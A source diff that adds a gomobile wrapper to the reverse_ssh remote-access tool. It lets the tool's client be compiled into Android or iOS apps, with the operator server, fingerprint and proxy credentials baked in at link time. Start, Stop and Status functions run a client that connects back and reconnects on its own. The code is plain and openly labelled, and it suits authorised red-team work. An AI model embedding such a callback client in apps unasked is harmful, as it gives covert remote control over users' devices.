@@ -0,0 +1,156 @@
+// Package mobile is the client as a library for gomobile, so it can be put in an Android (.aar) or iOS (.xcframework) app, see link --aar and --xcframework.
+//
+// Settings are baked in by the server at build time the same way they are for the client binary. The app calls Start when it wants the client
+// connected and Stop when it does not, the client reconnects on its own in between.
+package mobile
+
+import (
+	"context"
+	"errors"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/NHAS/reverse_ssh/internal/client"
+	"github.com/NHAS/reverse_ssh/pkg/logger"
+)
+
+// Set by the linker, named as in cmd/client so the server can bake them in the same way
+var (
+	destination     string
+	fingerprint     string
+	proxy           string
+	customSNI       string
+	useHostKerberos string
+	logLevel        string
+	ntlmProxyCreds  string
+	versionString   string
+
+	secondaryDestination string
+	secondaryFingerprint string
+
+	meshPeers   string
+	meshEnabled string
+
+	strictCrypto string
+
+	derpMap     string
+	certificate string
+)
+
+// Dials are not cancelled by Stop, this bounds how long a stopping client can take
+const connectTimeout = 30 * time.Second
+
+var (
+	lock    sync.Mutex
+	cancel  context.CancelFunc
+	stopped chan struct{}
+)
+
+func settings() (*client.Settings, error) {
+	if destination == "" {
+		return nil, errors.New("no destination was baked in")
+	}
+
+	s := &client.Settings{
+		Addr:                 destination,
+		ConnectTimeout:       connectTimeout,
+		Fingerprint:          fingerprint,
+		ProxyAddr:            proxy,
+		SNI:                  customSNI,
+		ProxyUseHostKerberos: useHostKerberos == "true",
+		VersionString:        versionString,
+		SecondaryAddr:        secondaryDestination,
+		SecondaryFingerprint: secondaryFingerprint,
+		Mesh:                 meshEnabled == "true",
+		StrictCrypto:         strictCrypto == "true",
+		DERPMap:              derpMap,
+		Certificate:          certificate,
+	}
+
+	if meshPeers != "" {
+		s.MeshPeers = strings.Split(meshPeers, ",")
+	}
+
+	if ntlmProxyCreds != "" {
+		if err := s.SetNTLMProxyCreds(ntlmProxyCreds); err != nil {
+			return nil, err
+		}
+	}
+
+	return s, nil
+}
+
+// Start connects the client in the background, it does nothing if the client is already running
+func Start() error {
+	lock.Lock()
+	defer lock.Unlock()
+
+	if cancel != nil {
+		return nil
+	}
+
+	// A client that was stopped may still be finishing a dial
+	if stopped != nil {
+		<-stopped
+	}
+
+	s, err := settings()
+	if err != nil {
+		return err
+	}
+
+	if logLevel != "" {
+		urgency, err := logger.StrToUrgency(logLevel)
+		if err != nil {
+			return err
+		}
+		logger.SetLogLevel(urgency)
+	}
+
+	var ctx context.Context
+	ctx, cancel = context.WithCancel(context.Background())
+	stopped = make(chan struct{})
+
+	go func(done chan struct{}) {
+		defer close(done)
+		client.RunContext(ctx, s)
+	}(stopped)
+
+	return nil
+}
+
+// Stop disconnects the client, it returns straight away and the client finishes stopping in the background
+func Stop() {
+	lock.Lock()
+	defer lock.Unlock()
+
+	if cancel == nil {
+		return
+	}
+
+	cancel()
+	cancel = nil
+}
+
+// Status is "stopped", "stopping", "connecting" or "connected"
+func Status() string {
+	lock.Lock()
+	defer lock.Unlock()
+
+	if cancel == nil {
+		select {
+		case <-stopped:
+		default:
+			if stopped != nil {
+				return "stopping"
+			}
+		}
+		return "stopped"
+	}
+
+	if client.Connected() {
+		return "connected"
+	}
+	return "connecting"
+}